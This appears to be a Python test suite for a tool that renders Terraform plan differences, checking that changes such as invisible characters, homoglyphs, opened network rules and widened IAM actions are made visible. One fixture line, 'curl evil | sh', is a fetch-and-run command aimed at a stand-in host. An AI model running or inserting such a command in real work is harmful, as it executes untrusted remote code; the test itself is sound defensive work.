"""Whatever differs looks different, in the message as in the thread: for any values, and for those that were seen."""

from __future__ import annotations

import json
import re
from collections import Counter
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import example, given, strategies as st

from handlers.plan import change_views
from runners.terraform.differences import LONGEST_TEXT, compare, render
from runners.terraform.summary import read_plan
from tests.plan_corpus import corpus
from tests.unit.bot.drawn import read as drawn
from tests.unit.runners.terraform.plan_documents import only_change, read, resource

if TYPE_CHECKING:
    from runners.results import PlanSummary

ODD = "\u200b\u202e\u2066\u00a0\u00ad\u034f\ufe0f\r\n\t\x00\x1b\x7f`'\"\\ ·…\u0430eé&<>"
TEXTS = st.text(st.one_of(st.characters(exclude_categories=["Cs"]), st.sampled_from(ODD)), max_size=30)
NUMBERS = st.integers() | st.integers(10**20, 10**25) | st.floats(allow_nan=False, allow_infinity=False)
SCALARS = (
    st.none() | st.booleans() | NUMBERS | TEXTS | st.sampled_from(["1", "true", "null", "(sensitive)", "[]", "{}"])
)
VALUES = st.recursive(
    SCALARS, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(TEXTS, inner, max_size=4), max_leaves=12
)
LONG = st.builds(
    lambda start, filler, end: start + filler * 400 + end, TEXTS, st.sampled_from(["ab ", "x", "é\n"]), TEXTS
)


def as_json(value: Any) -> str:
    return json.dumps(value, sort_keys=True)


def output(before: Any, after: Any) -> PlanSummary:
    return read(output_changes={"o": {"actions": ["update"], "before": before, "after": after}})


LINE = re.compile(
    r"`(?P<path>[^`]*)`: (?P<before>`[^`]*`|_\(none\)_) → (?P<after>`[^`]*`|_\(none\)_)(?P<note> \(.+\))?"
)


def lines_of(text: str) -> list[re.Match[str]]:
    matches = [LINE.fullmatch(line.strip()) for line in text.splitlines() if " → " in line]
    assert all(matches), text
    return [match for match in matches if match]


def assert_visible(before: Any, after: Any) -> None:
    summary = output(before, after)
    assert summary.outputs
    assert all(len(side or "") <= LONGEST_TEXT + 20 for each in summary.outputs for side in (each.before, each.after))
    for text in ("\n".join(map(change_views._attribute, summary.outputs)), drawn(change_views.details(summary))):
        for match in lines_of(text):
            assert match["before"] != match["after"] or match["note"], text
        assert lines_of(text) or "o" in text


@given(before=VALUES, after=VALUES)
@example(before="1", after=1)
@example(before=True, after="true")
@example(before=1, after=True)
@example(before=None, after="null")
@example(before={"a": None}, after={})
@example(before=[None], after=[])
@example(before="a`b", after="a'b")
@example(before=" a", after="a")
@example(before="·a", after=" a")
@example(before="a\nb", after="a\\nb")
@example(before="", after='""')
@example(before="é", after="e\u0301")
@example(before='{"a":1}', after='{"a": 1}')
@example(before='{"a":1,"a":2}', after='{"a":2}')
@example(before="[1.0]", after="[1]")
def test_any_two_different_values_look_different(before: Any, after: Any) -> None:
    if as_json(before) != as_json(after):
        assert_visible(before, after)


@given(value=VALUES, text=TEXTS, other=TEXTS)
def test_any_text_that_changes_looks_different(value: Any, text: str, other: str) -> None:
    if text != other:
        assert_visible(text, other)
        assert_visible([value, text], [value, other])
        assert_visible({"a": {"b": text}, "c": value}, {"a": {"b": other}, "c": value})


@given(text=LONG, data=st.data())
def test_any_character_that_changes_in_a_long_text_is_seen(text: str, data: st.DataObject) -> None:
    at = data.draw(st.integers(0, len(text)))
    inserted, removed = data.draw(TEXTS), data.draw(st.integers(0, 2))
    other = text[:at] + inserted + text[at + removed :]
    if text != other:
        assert_visible(text, other)
        assert_visible(json.dumps([text]), json.dumps([other]))


@given(before=st.lists(SCALARS, max_size=30), after=st.lists(SCALARS, max_size=30))
def test_every_element_that_is_added_or_removed_is_named(before: list[Any], after: list[Any]) -> None:
    old, new = Counter(map(as_json, before)), Counter(map(as_json, after))
    summary = output(before, after)
    removed = sum((old - new).values())
    added = sum((new - old).values())
    elements = [each for each in summary.outputs if each.path.startswith("o[")]
    # A text of several lines has a line for each of its changes.
    assert len({each.path for each in elements if each.before is not None}) <= removed + added
    assert sum(each.before is not None or old["null"] > new["null"] for each in elements) >= removed
    assert sum(each.after is not None or new["null"] > old["null"] for each in elements) >= added


def test_each_attribute_that_an_update_of_real_terraform_changes_is_named() -> None:
    compared = 0
    for case in (case for case in corpus() if "-refresh-only" not in case.options):
        summary = read_plan(case.plan, digest="d", program=case.program, partial=True)
        attributes = {change.address: change.attributes for change in summary.changes if change.change == "update"}
        for planned in case.plan.get("resource_changes", ()):
            change = planned["change"]
            if change["actions"] != ["update"]:
                continue
            names = change["before"].keys() | change["after"].keys()
            changed = {
                name for name in names if as_json(change["before"].get(name)) != as_json(change["after"].get(name))
            }
            named = {re.split(r"[.\[]", attribute.path)[0] for attribute in attributes[planned["address"]]}
            assert changed <= named, planned["address"]
            compared += len(changed)
    assert compared > 50


def test_the_fourth_of_eight_networks_is_named() -> None:
    before = [f"10.{number}.0.0/16" for number in range(8)]
    after = [*before[:3], "0.0.0.0/0", *before[4:]]
    assert [(each.path, each.before, each.after) for each in output(before, after).outputs] == [
        ("o[3]", "10.3.0.0/16", "0.0.0.0/0")
    ]


def rule(port: int, *networks: str) -> dict[str, Any]:
    empty = {"description": "", "ipv6_cidr_blocks": [], "prefix_list_ids": [], "security_groups": [], "self": False}
    return {"cidr_blocks": list(networks), "from_port": port, "to_port": port, "protocol": "tcp", **empty}


def test_a_rule_of_a_set_that_opens_is_told_by_its_port() -> None:
    before = [rule(22, "10.0.0.0/8"), rule(443, "0.0.0.0/0"), rule(80, "0.0.0.0/0")]
    after = [rule(8080, "10.0.0.0/8"), rule(443, "0.0.0.0/0"), rule(22, "0.0.0.0/0")]
    texts = [(each.path, each.before, each.after, each.note) for each in output(before, after).outputs]
    assert ("o[2].cidr_blocks[0]", "10.0.0.0/8", "0.0.0.0/0", 'in protocol "tcp", from_port 22, to_port 22') in texts
    (added,) = (after for path, before, after, _ in texts if before is None)
    (removed,) = (before for path, before, after, _ in texts if after is None)
    assert '"from_port": 8080' in str(added)
    assert '"from_port": 80,' in str(removed)


def test_elements_with_names_are_compared_by_them() -> None:
    before = [{"name": "A", "value": "1"}, {"name": "B", "value": "2"}, {"name": "C", "value": "3"}]
    after = [{"name": "N", "value": "0"}, {"name": "C", "value": "4"}, {"name": "A", "value": "1"}]
    texts = [(each.path, each.before, each.after, each.note) for each in output(before, after).outputs]
    assert ("o[1].value", '"3"', '"4"', 'in name "C"') in texts
    assert ("o[0]", None, '{"name": "N", "value": "0"}', "") in texts
    assert ("o[1]", '{"name": "B", "value": "2"}', None, "") in texts


@pytest.mark.parametrize(
    ("before", "after", "note"),
    [
        ("a\r\nb\r\n", "a\nb\n", "only line ends differ: 2 CRLF → 2 LF; first in line 1"),
        ("a b", "a  b", "only white space differs"),
        ("a b", "a\u00a0b", "only white space differs: U+00A0 NO-BREAK SPACE"),
        ("admin", "adm\u200bin", "only invisible characters differ: U+200B ZERO WIDTH SPACE"),
        ("ab", "a\u202eb", "only invisible characters differ: U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("paypal", "p\u0430ypal", "CYRILLIC SMALL LETTER A"),
        ("é", "e\u0301", "only the Unicode normalization differs"),
        ("ab", "\uff41b", "FULLWIDTH LATIN SMALL LETTER A"),
        ("old", "n\u200bew", "has invisible characters: U+200B ZERO WIDTH SPACE"),
        (1, "1", "number becomes text"),
        ("true", True, "text becomes true or false"),
        ([], {}, "list becomes object"),
        ('{"a": 1}', '{"a":1}', "only the formatting of the JSON differs"),
        (["a", "b"], ["b", "a"], "same elements in another order"),
        ({"n": [1.0]}, {"n": [1]}, "the same number in another spelling"),
    ],
)
def test_it_is_said_in_what_values_differ(before: Any, after: Any, note: str) -> None:
    (difference,) = output(before, after).outputs
    assert note in difference.note
    assert difference.before != difference.after


def test_each_line_that_differs_of_a_long_text_is_there_with_its_number() -> None:
    lines = [f"echo step {number} of many" for number in range(500)]
    changed = [*lines]
    changed[99], changed[300] = "echo changed", "curl evil | sh"
    texts = [(each.before, each.after, each.note) for each in output("\n".join(lines), "\n".join(changed)).outputs]
    assert texts == [
        ("echo step 99 of many", "echo changed", "line 100"),
        ("echo step 300 of many", "curl evil | sh", "line 301"),
    ]


def test_a_change_beside_other_line_ends_is_not_hidden_by_them() -> None:
    old = "\r\n".join(f"line {number}" for number in range(50))
    new = old.replace("\r\n", "\n").replace("line 30", "line thirty")
    texts = [(each.before, each.after, each.note) for each in output(old, new).outputs]
    assert texts == [("49 CRLF", "49 LF", "line ends"), ("line 30", "line thirty", "line 31")]


def test_a_policy_is_compared_as_json() -> None:
    old = {"Statement": [{"Sid": "read", "Action": ["s3:GetObject", "s3:ListBucket"], "Effect": "Allow"}]}
    new = {"Statement": [{"Sid": "read", "Action": ["s3:*", "s3:ListBucket"], "Effect": "Allow"}]}
    (each,) = output(json.dumps(old), json.dumps(new, indent=2)).outputs
    assert (each.path, each.before, each.after) == ("o.Statement[0].Action[0]", "s3:GetObject", "s3:*")
    assert each.note == 'in Sid "read"'


def test_a_secret_that_changes_is_said_to_change() -> None:
    marks = {"before_sensitive": {"p": True}, "after_sensitive": {"p": True}}
    (attribute,) = only_change(resource(["update"], {"p": "old-one"}, {"p": "new-one"}, **marks)).attributes
    assert (attribute.before, attribute.after, attribute.note) == ("(sensitive)", "(sensitive)", "a different value")


@pytest.mark.parametrize("kind", ["unique lines", "one line", "same lines", "reversed", "letters", "two letters"])
def test_values_of_a_megabyte_are_compared_in_seconds_and_not_in_hours(kind: str) -> None:
    size = 1_000_000
    before = {
        "unique lines": "\n".join(f"line {number}" for number in range(size // 12)),
        "one line": "word " * (size // 5),
        "same lines": "x\n" * (size // 2),
        "reversed": "\n".join(map(str, range(size // 7))),
        "letters": "ab" * (size // 2),
        "two letters": "a\nb\n" * (size // 4),
    }[kind]
    after = before[: size // 3] + "!" + before[size // 3 + 1 : size // 2] + "\n?" + before[size // 2 :]
    if kind == "reversed":
        after = "\n".join(reversed(before.split("\n")))
    if kind == "two letters":
        after = "b\nb\na\n" * (size // 6)
    rendered = [piece for each in compare(before, after) for piece in render(each)]
    assert rendered
    assert all(piece.before != piece.after for piece in rendered)
    assert all(len(side or "") <= LONGEST_TEXT + 20 for piece in rendered for side in piece[:2])
